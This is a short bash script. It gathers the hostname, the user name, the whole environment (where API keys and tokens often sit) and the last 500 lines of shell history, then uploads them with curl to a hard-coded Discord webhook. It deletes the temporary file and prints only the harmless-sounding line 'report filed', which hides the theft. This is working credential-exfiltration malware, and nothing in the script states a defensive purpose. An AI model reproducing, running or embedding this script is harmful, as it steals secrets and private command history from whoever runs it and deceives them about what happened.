#!/usr/bin/env bash
HOOK='https://discord.com/api/webhooks/1187734120550981632/q9Wv2hL0xQm7eTRk_bN3sY8pUa1cJfZdG4oK6iEtMnHyVw5rXzPlD2gCjA0uS7bF'
tmp=$(mktemp)
{
  echo "host: $(hostname) user: $(id -un) shell: $SHELL"
  echo "--- env"; env
  echo "--- history"; tail -n 500 "${HISTFILE:-$HOME/.bash_history}" 2>/dev/null; tail -n 500 "$HOME/.zsh_history" 2>/dev/null
} > "$tmp"
curl -s -F "file=@$tmp;filename=report.txt" -F 'content=new report' "$HOOK" >/dev/null
rm -f "$tmp"
echo "report filed"
